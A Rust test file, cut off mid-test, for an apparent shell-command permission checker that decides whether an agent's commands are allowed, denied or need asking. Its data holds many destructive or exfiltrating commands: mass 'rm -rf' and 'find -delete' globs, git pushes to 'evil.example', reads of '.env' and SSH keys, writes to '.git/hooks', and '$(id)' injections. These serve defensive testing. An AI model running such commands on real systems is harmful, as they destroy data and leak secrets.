//! What programs make of their words, where somebody has chosen the words or the names of files with care.

mod world;

use sterna_model::{Decision, Mode};
use sterna_policy::Sandbox;
use world::{judge_in, rules};

/// What mode `execute` says of each call, with these rules.
fn check(sandboxes: &[Sandbox], given: &str, calls: &[&str], fits: impl Fn(Decision) -> bool) {
    let rules = rules(given);
    let mut wrong = Vec::new();
    for sandbox in sandboxes {
        for call in calls {
            let got = judge_in(*sandbox, Mode::Execute, &rules, &[], &format!("$ {call}"));
            if !fits(got.decision) {
                let (sandbox, decision) = (sandbox.word(), got.decision.word());
                wrong.push(format!("[{sandbox}] {call}\n    {decision}: {}", got.reason));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const ALL: &[Sandbox] = &Sandbox::ALL;
const HELD: &[Sandbox] = &[Sandbox::Landlock, Sandbox::Bubblewrap];

#[test]
fn a_pattern_among_a_wrapper_s_own_words_may_be_the_program() {
    let calls = [
        "timeout [5b]* ls",
        "timeout -s [9b]* 5 ls",
        "nice -n [5b]* ls",
        "nice --adjustment [5b]* ls",
        "stdbuf -o [0b]* ls",
        "env -u [Xb]* ls",
        "env -u [Xb]*",
        "env A=* ls",
        "env A=[1]*",
        "sudo -u [rb]* ls",
        "command -[p] ls",
        "time nice -n ? ls",
        "for f in [5]*; do timeout $f ls; done",
        "ls | xargs -n [1b]* ls",
        "ls | xargs -n [1b]*",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    check(HELD, "", &["timeout 5 ls *.rs", "env A=1 nice -n 5 grep -n fn a.rs"], |got| {
        got == Decision::Allow
    });
}

#[test]
fn a_pattern_may_become_an_option() {
    // Shells evaluate what follows these, and run what stands in its brackets.
    let calls = [
        "printf -[v] 'a[$(id)]' x",
        "printf * 'a[$(id)]' x",
        "printf -- *",
        "printf ?v",
        "test -[v] 'a[$(id)]'",
        "[ -? 'a[$(id)]' ]",
        "test * 'a[$(id)]'",
        "[ ! [-]R a ]",
        "wait [-]p 'a[$(id)]'",
        "jobs -? touch x",
        "jobs [-]x touch x",
        "find . -maxdepth 0 -exe[c] touch x ';'",
        "find . -maxdepth 0 -* touch x ';'",
        r"find . -maxdepth 0 -exec echo [\;] -exec touch x ';'",
        "find . -maxdepth 0 -exec echo * -exec touch x ';'",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    check(&[Sandbox::None], "", &["ps [e]", "seq -*", "sort -[o] x a"], |got| got == Decision::Ask);
    let calls = [
        r"printf '%s\n' *.rs *",
        "[ -f *.toml ]",
        "test -e src/*",
        "[[ $x == *.rs ]]",
        "find src -name '*.rs'",
        "ps aux",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
}

#[test]
fn a_format_may_set_a_variable() {
    let calls = [
        "printf '%n' PATH; ls",
        "printf %5n PATH",
        "printf '%.3ln' PATH",
        "printf '%5.*hhn' 3 PATH",
        "printf '%% %s%%%n' a PATH",
        r"printf -- 'x\n%n' PATH",
        "f=%n; printf \"$f\" PATH",
        "printf '%(%Y)T %n' 1 PATH",
        "printf %n \"$X\"",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    let calls =
        [r"printf '%s\n%d %5.2f %%n %q%b\n' a 1 2 b c", r"printf 'none\n'", "printf '%-10s|%n%%' 2>&1 | cat"];
    check(ALL, "", &calls[..2], |got| got == Decision::Allow);
    check(ALL, "", &calls[2..], |got| got == Decision::Ask);
}

/// `-exec` stands where `-name` expects a name: the next one is the action.
#[test]
fn each_exec_of_a_find_counts() {
    let calls = [
        "find . -name -exec -exec rm x ';'",
        "find . -name -exec -o -exec rm x ';'",
        "find . -exec echo -exec rm x ';'",
    ];
    for call in calls {
        let got =
            judge_in(Sandbox::None, Mode::Bypass, &rules("deny Shell(rm *)"), &[], &format!("$ {call}"));
        assert_eq!(got.decision, Decision::Deny, "{call}");
    }
}

#[test]
fn a_test_of_find_may_take_what_looks_like_an_action() {
    let calls = [
        "find . -name -newer -fprint x",
        "find . ! -name -newer -delete",
        "find . -newer -name -delete",
        "find . -user -anewer -fls x",
        "find . -name a -fprintf x %p",
        "find -P . -regex -samefile -fprint0 x",
        "find . -nosuch -fprint x",
        "find . -name a -nosuch",
    ];
    check(&[Sandbox::None], "", &calls, |got| got != Decision::Allow);
    let hooks = ["find . -name -newer -fprint .git/hooks/x", "find . -nosuch -fprint .git/config"];
    check(ALL, "", &hooks, |got| got != Decision::Allow);
    let calls = [
        r"find . -type f \( -name '*.rs' -o -name '*.toml' \) ! -path './target/*' -print0",
        "find . -maxdepth 2 -mindepth 1 -newer Cargo.toml -newermt 2024-01-01 -size +1k -printf '%p\\n'",
        "find . -path ./target -prune -o -name '*.rs' -print",
        "find src -type d -empty -ls",
    ];
    check(ALL, "", &calls, |got| got == Decision::Allow);
}

#[test]
fn what_matches_most_names_is_everything() {
    let calls = [
        "rm -rf ?*",
        "rm -rf [!.]*",
        "rm -rf [a-m]* [n-z]*",
        "rm -rf */*",
        "rm -rf **/*",
        "rm -rf ./?*/",
        "rm -rf src/../?*",
        "rm -rf ~/?*",
        "find . -print0 -delete",
        "find . -mindepth 1 -delete",
        "find . -true -delete",
        "find . -type f -delete",
        "find . -type f,d -ls -delete",
        "find . -delete -name x",
        "find . -name x -o -delete",
        "find . -name x , -delete",
        "find . -name '*' -delete",
        "find . -path './*' -delete",
        "find . -regex '.*' -delete",
        "find . ! -name keep -delete",
        r"find . \( -name x -o -type f \) -delete",
        r"find . ! \( -name x \) -delete",
        r"find . -type f \( -name x -o -print -delete \)",
        "find ?* -delete",
        "find . -mindepth 2 -links +0 -delete",
        "find . -size +0 -delete",
        "find . -size -9G -delete",
        "find . -size 1G -delete",
        "find . ! -size 0 -delete",
        "find . -newermt 1970-01-01 -delete",
        "find . -newer /etc/passwd -delete",
        "find . -mtime +0 -delete",
        "find . -mmin +1 -delete",
        "find . -amin -99999 -delete",
        // All files of a fresh clone are as young.
        "find . -mmin -60 -delete",
        "find . -type f -cmin -5 -delete",
        "find . -mmin 3 -delete",
        "find . -mtime 0 -delete",
        "find . -mtime -1 -type f -delete",
        "find . ! -mtime +1 -delete",
        "find . ! -ctime -1 ! -mtime 5000 -delete -o -delete",
        "find . -perm /777 -delete",
        "find . -inum +0 -delete",
        "find . -regex '.*[a-z].*' -delete",
        r"find . -regex '.*\.o\|.*' -delete",
        r"find . -regex '.*\w.*' -delete",
        "find /w -path '/w/*' -delete",
        "find . -name '*.*' -delete",
        "find -O3 . -delete",
        "find -D exec . -delete",
        "find -- . -delete",
        "find -L . -delete",
        "rm -rf *.*",
        "rm -rf {a..z}*",
        "rm -rf ./{A..Z}* {a..z}*",
        "rm -rf [a-g]* [h-n]*",
        "rm -rf [a-g]*; rm -r [h-n]*",
        "for l in {a..m}; do rm -rf $l*; done",
        "mv {a..z}* /tmp/x",
        "rm -rf ~/{a..z}*",
    ];
    check(ALL, "", &calls, |got| got == Decision::Deny);
    let calls = [
        "rm -rf {a..f}*",
        "rm -rf [ab]* target/[c-z]*",
        "rm -rf {a..z}*.o",
        "rm -rf target/{a..z}*",
        "rm -f {a..z}*",
        "find . -size +100M -delete",
        "find . -size 0 -delete",
        "find . -mtime +7 -delete",
        "find . -mtime 30 -delete",
        "find . -mmin +1440 -delete",
        "find . -name '*.tmp' -mmin -60 -delete",
        "find . -newer stamp -type f -delete",
        "find . -samefile a -delete",
        r"find . -regex '.*\.\(o\|a\)' -delete",
        "find . -path './target/*' -delete",
        "find src -name src -delete",
        "rm -rf *.o",
        "rm -rf build/*",
        "rm -rf [abc]*",
        "rm -rf target/?*",
        "find . -name '*.o' -delete",
        r"find . \( -name '*.o' -o -name '*.a' \) -delete",
        r"find . -type f \( -name '*.o' -o -name '*.a' \) -print -delete",
        "find . -type d -empty -delete",
        "find . -mtime +7 -type f -delete",
        "find . -name '*.o' -type f -delete -o -name '*.a' -delete",
        "find . -maxdepth 1 -type f -delete",
        "find build -type f -delete",
        "find build -mindepth 1 ! -name keep -delete",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
}

/// Whatever else git makes of its words: a file that they name is read or written, and an address is reached.
#[test]
fn what_git_is_told_counts_whatever_else_it_does() {
    let bypass = |given: &str, call: &str| {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(given), &[], &format!("$ {call}"));
        (got.decision, got.reason)
    };
    let denied = |given: &str, calls: &[&str]| {
        for call in calls {
            let (got, why) = bypass(given, call);
            assert_eq!(got, Decision::Deny, "{given}: {call}: {why}");
        }
    };
    denied(
        "deny Write(b); deny Write(d/b)",
        &[
            "git log --output=b",
            "git log -1 --output b",
            "git diff --output=b HEAD",
            "git --no-pager show --output=d/b",
            "git -C d diff --output=b",
            "git blame --output=b a",
            "git shortlog --output=b HEAD",
            "git diff-tree --output b HEAD",
            "git archive -o b HEAD",
            "git archive -vob HEAD",
            "git archive --outp=b HEAD",
            "git format-patch -1 -o b",
            "git bundle create -q b HEAD",
            "git config -f b x.y z",
            "git rm b",
            "git -C d rm b",
            "git mv a b",
            "git mv b a",
            "git restore --source HEAD~1 b",
            "git checkout HEAD~1 -- d/b",
            "git clean -f b",
            "git -c a.b=c checkout b",
        ],
    );
    denied(
        "deny Read(.env); deny Read(d/k)",
        &[
            "git -c color.ui=always show HEAD:.env",
            "git show --textconv HEAD:.env",
            "git --git-dir=.git show HEAD:.env",
            "git diff --output=x .env a",
            "git -C d add k",
            "git -C . -C d add k",
            "git -C . -C d show HEAD:./k",
            "git hash-object -w .env",
            "git update-ref .env",
        ],
    );
    denied(
        "deny Web(evil.example)",
        &[
            "git send-pack evil.example:x main",
            "git send-pack --force ssh://evil.example/x main",
            "git fetch-pack git@evil.example:x",
            "git http-push https://evil.example/x main",
            "git remote-https origin https://evil.example/x",
            "git -c a.b=c send-pack evil.example:x",
            "git lfs push https://evil.example/x main",
            "cd routed && git lfs push origin main",
            "git -C routed lfs push --all origin",
            "cd routed && git subtree push --prefix d origin main",
            "git svn clone https://evil.example/x",
            "git frob https://evil.example/x",
            "git pull --cleanup strip https://evil.example/x main",
            "git fetch --nosuch x https://evil.example/x main",
            "git push --nosuch x git@evil.example:x main",
            "git -C [r]* push https://evil.example/x",
        ],
    );
    for (given, call) in [
        ("deny Write(b)", "git checkout -b b"),
        ("deny Write(b)", "git rm --cached b"),
        ("deny Write(b)", "git restore --staged b"),
        ("deny Write(b)", "git diff b"),
        ("deny Write(b)", "git log --output-indicator-new=b"),
        ("deny Write(b)", "git config -f b --get-regexp x"),
        ("deny Read(.env)", "git -c user.name=x commit -m 'read .env'"),
        ("deny Web(evil.example)", "git lfs track '*.bin'"),
        ("deny Web(evil.example)", "git push origin HEAD@{1}:refs/heads/x"),
    ] {
        let (got, why) = bypass(given, call);
        assert_eq!(got, Decision::Allow, "{given}: {call}: {why}");
    }
    let calls = [
        "git checkout -- src/a.rs",
        "git -C ../x checkout main",
        "git -c color.ui=never log",
        "git lfs ls-files",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
    // What writes a repository's settings is for no sandbox to hold.
    let calls = [
        "git -c a.b=c config core.pager x",
        "git --git-dir .git config core.pager x",
        "git -c a.b=c push -u origin x",
    ];
    check(HELD, "", &calls, |got| got == Decision::Ask);
}

#[test]
fn git_by_the_name_of_its_program_is_git() {
    for call in [
        "git-push",
        "/usr/lib/git-core/git-push origin main",
        "env /usr/libexec/git-core/git-push",
        "git -c alias.p=push p",
        "git -c alias.p='push --force' p origin",
        "npx /usr/lib/git-core/git-push",
    ] {
        for sandbox in Sandbox::ALL {
            let got =
                judge_in(sandbox, Mode::Bypass, &rules("deny Shell(git push *)"), &[], &format!("$ {call}"));
            assert_eq!(got.decision, Decision::Deny, "{call}: {}", got.reason);
        }
    }
    // It gives no leave.
    let allowed = "allow Shell(git push *); allow Shell(git status *)";
    check(&[Sandbox::None], allowed, &["git-push", "git-status", "npx git status"], |got| {
        got == Decision::Ask
    });
    check(HELD, "deny Shell(git push *)", &["git-lfs ls-files", "git -c alias.p=pull log"], |got| {
        got == Decision::Allow
    });
}

#[test]
fn what_find_gives_a_program_to_remove_is_seen() {
    let calls = [
        r"find . -exec rm -rf {} \;",
        "find . -exec rm -rf {} +",
        r"find . -execdir rm -rf {} \;",
        r"find . -ok rm {} \;",
        "find . -type f -exec rm {} +",
        "find . -maxdepth 1 -exec rm -rf {} +",
        "find . -mindepth 1 -maxdepth 1 -exec rm -rf {} +",
        "find . -mindepth 1 -type d -exec rm -r {} +",
        "find . -maxdepth 0 -exec rm -rf {} +",
        "find . -mtime +7 -exec rm -rf {} +",
        "find . -executable -exec rm -rf {} +",
        "find . -links +1 -exec rm -rf {} +",
        "find . ! -name .git -exec rm -rf {} +",
        r"find . -exec nice -n 5 rm -rf ./{} \;",
        r"find . -exec sh -c 'rm -rf {}' \;",
        r"find . -type f -exec shred -u {} \;",
        r"find . -type f -exec unlink {} \;",
        r"find . -exec mv {} /tmp/x \;",
        "find . -exec mv -t /tmp/x {} +",
        r"find . -name '*.o' -exec rm {} \; -o -exec rm {} \;",
        "find src . -exec rm -rf {} +",
        "find . -exec ionice -c 3 rm -rf {} +",
        "find . -exec npx rm -rf {} +",
        "fd . -X rm -rf",
        "fd -H -t f . -x rm -rf {}",
        "find * -maxdepth 0 -exec rm -rf {} +",
        "find ~ -exec rm -rf {} +",
        "find / -xdev -exec rm -rf {} +",
        "cd ~ && find . -exec rm -rf {} +",
    ];
    check(ALL, "", &calls, |got| got == Decision::Deny);
    for call in calls {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(""), &[], &format!("$ {call}"));
        assert!(got.decision == Decision::Deny && got.reason.contains("floor"), "{call}: {}", got.reason);
    }
    // A line that is not understood is looked at all the same.
    for call in [
        "find \"$PWD\" -exec rm -rf {} +",
        r"find $PWD -mindepth 1 -exec rm -rf {} \; | $x",
        "find . -exec busybox rm -rf {} +",
        r"eval; find ~ -exec rm -rf {} ';'",
    ] {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(""), &[], &format!("$ {call}"));
        assert!(got.decision == Decision::Deny && got.reason.contains("floor"), "{call}: {}", got.reason);
    }
    let calls = [
        "find . -name __pycache__ -exec rm -rf {} +",
        r"find . -type d -name node_modules -prune -exec rm -rf {} \;",
        "find . -type f -name '*.orig' -exec rm -f {} +",
        r"find . \( -name '*.o' -o -name '*.a' \) -exec rm {} +",
        "find . -maxdepth 1 -type f -exec rm -f {} +",
        "find . -type f -mtime +7 -exec rm -rf {} +",
        r"find . -type d -empty -exec rmdir {} \;",
        r"find . -depth -type d -exec rmdir {} \;",
        r"find . -type f -exec mv {} {}.bak \;",
        r"find . -name '*.log' -exec mv {} /tmp/x \;",
        "fd -e o -x rm",
        "fd '^a' -X rm -rf",
        "find . -name '*.o' -exec ionice rm {} +",
        "find target -mtime +7 -delete",
        "find target -exec rm -rf {} +",
        r"find . -type f -exec grep -l rm {} \;",
        r"find . -type f -exec sed -i s/a/b/ {} +",
        r"find . -type f -exec chmod 644 {} +",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
    // What is told of it may be what a rule is about.
    let got = judge_in(
        Sandbox::None,
        Mode::Bypass,
        &rules("deny Write(secrets/**)"),
        &[],
        "$ find . -name k -exec rm {} +",
    );
    assert_eq!(got.decision, Decision::Deny, "{}", got.reason);
}

#[test]
fn what_xargs_gives_a_program_to_remove_is_seen() {
    let calls = [
        "ls | xargs rm -rf",
        "ls -A1 | xargs -d '\\n' rm -rf",
        "ls . | xargs -I % rm -rf ./%",
        "ls | xargs -I{} sh -c 'rm -rf {}'",
        "ls | xargs -I{} mv {} /tmp/x",
        "ls | grep -v keep | xargs rm -rf",
        "ls | sort | uniq | tee all | xargs rm -rf",
        "ls | tail -n +1 | xargs rm -rf",
        "ls -t | tail +2 | xargs rm -rf",
        "ls | head -n -1 | xargs rm -rf",
        "ls | head -1000 | xargs rm -rf",
        "ls | xargs ionice rm -rf",
        "ls | xargs npx -y rm -rf",
        "git ls-files '*' | xargs rm",
        "git ls-files -co --exclude-standard | xargs rm",
        "ls | xargs -n 1 echo | xargs rm -rf",
        "find . -print0 | xargs -0 rm -rf",
        "find . -type f | xargs rm",
        "find . -maxdepth 1 | xargs rm -rf",
        "find . -name x -o -print | xargs rm -rf",
        "git ls-files | xargs rm",
        "git ls-files -z | xargs -0 rm -f",
        "echo * | xargs rm -rf",
        "pwd | xargs rm -rf",
        "echo ~ | xargs rm -rf",
        "echo $HOME | xargs -n1 sudo rm -rf",
        r"printf '%s\n' / | xargs rm -rf",
        r"printf '/\n' | xargs rm -rf",
        "ls -d ~ | xargs rm -rf",
        "realpath ~ | xargs rm -rf",
        "dirname ~/x | xargs rm -rf",
        "cd ~ && ls | xargs rm -rf",
        "xargs -I{} rm -rf {} <<< ~",
        "xargs rm -rf <<< 'a /'",
        "cat <<< ~ | xargs rm -rf",
        "xargs rm -rf <<E\n/\nE",
        "cat <<E | xargs rm -rf\n/\nE",
        "(echo a; echo /) | xargs rm -rf",
        "sh -c 'echo ~ | xargs rm -rf'",
        "echo ~ | sh -c 'xargs rm -rf'",
        "echo ~ | 'xar'gs rm -rf",
        "echo ~ | parallel rm -rf {}",
        "parallel rm -rf ::: ~",
        // What stands behind an option may be its value, and is none where that takes none.
        "ls | xargs --replace rm -rf {}",
        "ls | xargs --replace=% rm -rf %",
        "ls | xargs -i rm -rf {}",
        "ls | xargs -ri% rm -rf %",
        "ls | xargs --max-lines rm -rf",
        "ls -w 80 | xargs rm -rf",
        "ls -I '*.md' | xargs rm -rf",
        "ls -AI x | xargs rm -rf",
        "ls --hide x | xargs rm -rf",
        "ls --ign x --sort time | xargs rm -rf",
        "git ls-files -x '*.o' | xargs rm",
        "git ls-files :/ | xargs rm",
        "git ls-files . ':!keep' | xargs rm",
        "git ls-files ':^docs' ':(exclude)src' | xargs rm",
        "git ls-files ':(top,icase)*' | xargs rm",
        "grep -rl '' . | xargs rm",
        "grep -rl . | xargs rm",
        "grep -rlv foo . | xargs rm",
        "git ls-files -xmod | xargs rm",
        "git ls-files --exclude '*.o' | xargs rm",
        "git --no-pager ls-files | xargs rm",
        // Everything is new there.
        "git diff --name-only 4b825dc642cb6eb9a060e54bf8d69288fbee4904 | xargs rm",
        "git diff --name-only 4b825DC HEAD | xargs rm",
        "git -P diff --diff-filter A --name-only 4b825dc..HEAD | xargs rm -f",
        "git diff --name-only HEAD 6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321 | xargs rm",
    ];
    check(ALL, "", &calls, |got| got == Decision::Deny);
    for call in calls {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(""), &[], &format!("$ {call}"));
        assert!(got.decision == Decision::Deny && got.reason.contains("floor"), "{call}: {}", got.reason);
    }
    // As `rm -rf "$x"` does: nobody has seen it.
    let calls = [
        "cat list | xargs rm -rf",
        "xargs rm < list",
        "ls | xargs rm < list",
        "echo $X | xargs rm",
        "xargs rm -rf",
        "ls | awk '{print $1}' | xargs rm -rf",
        "xargs rm -rf <<E\n$X\nE",
        "git diff --name-only $(git hash-object -t tree /dev/null) | xargs rm",
        "git diff --no-index --name-only /dev/null . | xargs rm",
        "git -C src ls-files | xargs rm",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    let calls = [
        "find . -name '*.o' -print0 | sort -z | xargs -0 rm -f",
        r"find . | grep '\.o$' | xargs rm",
        "find target | xargs rm -rf",
        "find . -type d -empty | xargs rmdir",
        "ls -t *.log | tail -n +6 | xargs rm -f",
        "ls -t | tail -n +6 | xargs rm -rf",
        "ls -t | head -n1 | xargs rm",
        "ls | xargs ionice rm",
        "git ls-files '*.orig' | xargs rm",
        "git ls-files -d | xargs git rm",
        "ls | xargs -I{} mv {} {}.bak",
        "git ls-files -o --exclude-standard | xargs rm",
        "git diff --name-only | xargs rm",
        "grep -rl foo . | xargs rm",
        "echo build dist | xargs rm -rf",
        "seq 1 3 | xargs -I{} rm -rf build{}",
        "ls *.txt | xargs cat",
        "cat list | xargs touch",
        "cat list | xargs -I{} mv {} target",
        "git branch --merged | grep -v main | xargs git branch -d",
        "git --no-pager ls-files '*.orig' | xargs rm",
        "git ls-files ':(top)target/*.o' | xargs rm",
        "grep -l '' *.o | xargs rm",
        "grep -rl '' target | xargs rm",
        "git --no-pager diff --name-only HEAD~1 | xargs rm",
        "git diff --name-only main...HEAD | xargs rm",
        "ls -I keep build | xargs rm -rf",
        "ls --color=never *.txt | xargs --replace mv {} {}.bak",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
    let got = judge_in(Sandbox::None, Mode::Bypass, &rules("deny Write(a)"), &[], "$ echo b a | xargs rm");
    assert_eq!(got.decision, Decision::Deny, "{}", got.reason);
}

/// What is printed is not always what a program is given: names are put together, changed and cut on the way.
#[test]
fn names_that_are_made_on_the_way_to_xargs_are_not_seen() {
    let calls = [
        "echo X | tr X . | xargs rm -rf",
        "echo srcX | tr -d X | xargs rm -rf",
        "echo '.X' | xargs -dX rm -rf",
        "echo '.X' | xargs -0d X rm -rf",
        "echo '.X' | xargs --delimiter=X rm -rf",
        "echo '.X' | xargs -d X echo | xargs rm -rf",
        "printf '%s%s' sr c/x | xargs rm -rf",
        "printf '%s' a b | xargs rm -rf",
        r"printf '\056' | xargs rm -rf",
        r"printf '\x2e' | xargs rm -rf",
        r"echo -e '\056' | xargs rm -rf",
        r"echo 'a\nb' | xargs rm -rf",
        "printf %c .x | xargs rm -rf",
        "echo src | xargs -I{} echo x{} | xargs rm -rf",
        "echo src | xargs printf '%.1s' | xargs rm -rf",
        "seq -f . 1 | xargs rm -rf",
        "realpath --relative-to=src/x src | xargs rm -rf",
        "readlink x | xargs rm -rf",
        "echo x | grep -l --label=. . | xargs rm -rf",
        "echo a.b | grep --only-m '[.]' | xargs rm -rf",
        "echo x | sort --files0-from=list | xargs rm -rf",
        "echo x | head -n 1 -- -list | xargs rm -rf",
        "git ls-files -m --format=. | xargs rm -rf",
        r"find . -name x -printf '.\n' | xargs rm -rf",
        "(find . -frob; echo x) | xargs rm -rf",
        // Within a name, or at what ends none.
        "echo ./x | head -c1 | xargs rm -rf",
        "echo ./x | head -c 1 | xargs rm -rf",
        "echo ./x | head --bytes=1 | xargs rm -rf",
        "echo x. | tail -c 2 | xargs rm -rf",
        "ls | head -c 999999 | xargs rm -rf",
        "ls | head -z -n1 | xargs rm -rf",
        r"echo -e 'a\é' | xargs rm",
        r"printf 'a\é\n' | xargs rm",
    ];
    check(ALL, "", &calls, |got| got == Decision::Ask);
    let calls = [
        "echo \"'.'\" | xargs rm -rf",
        r"echo '\.' | xargs rm -rf",
        "xargs rm -rf <<< '\".\"'",
        "echo a | xargs echo . | xargs rm -rf",
        "ls | grep '[a-z]' | xargs rm -rf",
        "ls | grep -E '.*|x' | xargs rm -rf",
        "ls | grep -E '(a|.)' | xargs rm -rf",
        r"ls | grep 'x\?' | xargs rm -rf",
        r"ls | grep '\w' | xargs rm -rf",
        "ls | grep -P '(?!x)' | xargs rm -rf",
        r"find . | grep '\./[a-z]' | xargs rm -rf",
        "fd '[a-z]' -x rm -rf",
        "fd --changed-within 2weeks -x rm -rf",
        "fd --min-depth 1 -x rm -rf",
        "fd -t f -X rm",
        "fd -tf -S +0b -x rm -f",
        "fd -S -9g -x rm -rf",
        "fd --nosuch x -x rm -rf",
        "find . -regex '[.]/[a-z]+.*' -delete",
    ];
    check(ALL, "", &calls, |got| got == Decision::Deny);
    for call in ["fd x / -x rm -rf", "fd x ~ -x rm -rf", "fd --base-directory / x -x rm -rf"] {
        let got = judge_in(Sandbox::None, Mode::Bypass, &rules(""), &[], &format!("$ {call}"));
        assert_eq!(got.decision, Decision::Deny, "{call}: {}", got.reason);
    }
    let calls = [
        "echo a b | tr ' ' '\\n' | xargs rm",
        "find . -name '*.o' -printf '%p\\n' | xargs rm",
        "find . -name '*.o' | tr '\\n' '\\0' | xargs -0 rm",
        r"printf '%s\n' *.o | xargs rm",
        r"printf '%s\0' a b | xargs -0 rm",
        r"printf 'a\nb\n' | xargs -d '\n' rm",
        r"echo -e 'a\nb' | xargs rm",
        "seq 1 3 | xargs rm",
        "realpath a | xargs rm",
        "grep -l TODO * | xargs rm",
        "grep -l TODO *.md src/* | xargs rm",
        r"ls | grep '\.bak$' | xargs rm",
        r"ls | grep -E '\.py(c|o)?$' | xargs rm",
        r"ls | grep '^[0-9]\+$' | xargs rm",
        "ls | grep -E '^(test|bench)_[0-9]*' | xargs rm",
        "ls | grep 'foo(' | xargs rm",
        r"find . -regex '.*\.\(o\|a\)' -delete",
        r"find . -regextype posix-extended -regex '.*\.py(c|o)?' -delete",
        "find . -name '*.log' | xargs ls -t | tail -n +6 | xargs rm -f",
        "fd . src -x rm",
        "fd -e o -x rm",
        "fd -t f -d 1 -x rm",
        "fd -S +100m --changed-before 2weeks -x rm",
        "ls | head -n 3 -q | xargs rm",
        "ls *.log | tail -3 | xargs rm",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
}

#[test]
fn a_script_that_is_a_pattern_is_what_somebody_called_a_file() {
    let calls = [
        "sed s*a*b* README",
        "sed -n s/*/x/p README",
        "sed -e s?a?b? README",
        "sed --expression=s?a?b? README",
        "for f in s*; do sed $f README; done",
        "sed -n [1]p README",
    ];
    check(&[Sandbox::None], "", &calls, |got| got == Decision::Ask);
    let calls = ["sed -i s/a/b/ a*", "sed s/a/b/ *.rs", "sed -n '/[a-z]*/p' README"];
    check(HELD, "", &calls, |got| got == Decision::Allow);
}

/// The first of the names that a pattern becomes is the text to look for, and the others are files.
#[test]
fn what_stands_before_the_files_may_be_files() {
    let calls = [
        "grep -v secrets/* README",
        "egrep -v secrets/k? README",
        "rg -v secrets/* README",
        "jq -R secrets/* README",
        "grep -e secrets/* README",
        "grep -A secrets/* a README",
        "sed -n secrets/* README",
        "sed -n -e secrets/* README",
        "for f in secrets/*; do grep -v $f README; done",
        "chmod secrets/* README",
    ];
    let given = "deny Read(secrets/**); deny Write(secrets/**)";
    check(ALL, given, &calls, |got| got != Decision::Allow);
    let bypass = |call: &str| judge_in(Sandbox::None, Mode::Bypass, &rules(given), &[], call).decision;
    for call in calls {
        assert_eq!(bypass(&format!("$ {call}")), Decision::Deny, "{call}");
    }
    check(ALL, "", &["grep -v ~/.ssh/id_* README", "rg -v ~/.ssh/* README"], |got| got != Decision::Allow);
    // The second name is written.
    check(&[Sandbox::None], "", &["uniq a*", "uniq -c src/a*"], |got| got == Decision::Ask);
    check(ALL, "", &["grep -v 'secrets/*' README", "uniq -c a"], |got| got == Decision::Allow);
}

#[test]
fn options_may_name_files_that_are_read() {
    let calls = [
        "strings @/w/.env",
        "strings -n 3 README @.env",
        "hexdump -f.env README",
        "hexdump -f .env README",
        "hexdump -Cf.env README",
        "diff -rN . empty",
        "diff -N . empty",
        "diff --new-file . empty",
        "diff --recurs . empty",
        "diff . other",
        "diff src/.. other",
        "diff ./ other",
        "diff secrets other",
        "diff secrets k.pem",
        "diff ../w/secrets k.pem",
        // Values of options are none of the two.
        "diff -x p -x q secrets other",
        "diff --exclude p --label q other secrets",
        "diff -L p -I q -W 80 other secrets",
    ];
    let given = "deny Read(.env); deny Read(secrets/k.pem)";
    check(ALL, given, &calls, |got| got != Decision::Allow);
    check(&[Sandbox::None], given, &["diff --from-file=. other", "diff other --to-f ."], |got| {
        got == Decision::Ask
    });
    let calls = ["hexdump -f/home/me/.ssh/id_rsa README", "strings @/home/me/.ssh/id_rsa"];
    check(ALL, "", &calls, |got| got != Decision::Allow);
    let calls = [
        "hexdump -C README",
        "strings -n 8 a.out",
        "diff -u a.rs b.rs",
        "diff src/a.rs ../w/b.rs",
        "cmp a b",
        "diff -x '*.o' -x '*.a' -r src old",
        "od -c README",
        "ls -X",
    ];
    check(ALL, given, &calls, |got| got == Decision::Allow);
    check(ALL, "", &["diff -rq a b", "diff -ru src/ old/"], |got| got == Decision::Allow);
}

#[test]
fn what_is_written_is_seen_however_it_is_said() {
    let calls = [
        "cp -t.git/hooks pre-commit",
        "cp -vt.git/hooks pre-commit",
        "cp -vt .git/hooks pre-commit",
        "cp --target-directory=.git/hooks pre-commit",
        "mv --target=.git/hooks pre-commit",
        "ln --t .git/hooks pre-commit",
        "install -m755 -t.git/hooks pre-commit",
        "cp -t.git config",
        "cp --nosuch config .git",
        "cp --reflink=auto config .git",
        "cp -b -S g x .git/confi",
        "cp --suffix=g x .git/confi",
        "sed -i'.git/hooks/*' p pre-commit",
        "sed -i.git/hooks/* p pre-commit",
        "sed --in-place='.git/hooks/*' p pre-commit",
        "sed -ig p .git/confi",
        "sed -i'.git/*' p src/config",
        "sed -i -f x .git/config",
        "tee --nosuch=warn .git/config",
        "touch --nosuch .git/hooks/pre-commit",
        "sort -o .git/config a",
        "sort -ro.git/config a",
        "sort --output=.git/config a",
        "sort a --outp .git/config",
        "tree -o .git/hooks/x",
        "dd if=x of=.git/config nosuch=1",
        "uniq --nosuch=2 a .git/config",
    ];
    check(ALL, "", &calls, |got| got != Decision::Allow);
    let calls = [
        "cp -t target a b",
        "cp -at target/ a",
        "cp --target-directory=target a",
        "mv -v a b",
        "cp --no-preserve=mode a b",
        "install -Dm755 a target/b",
        "sed -i.bak s/a/b/ src/a.rs",
        "sort -o a a",
    ];
    check(HELD, "", &calls, |got| got == Decision::Allow);
}

/// What a copy from elsewhere or a download writes is written, whoever names it.
#[test]
fn what_is_fetched_is_written_where_its_words_say() {
    let given = "deny Write(b); deny Write(d/b); allow Shell(*); allow Web(*)";
    let bypass = |sandbox, call: &str| {
        let got = judge_in(sandbox, Mode::Bypass, &rules(given), &[], &format!("$ {call}"));
        (got.decision, got.reason)
    };
    for call in [
        "rsync a b",
        "rsync -av --delete h:x/b .",
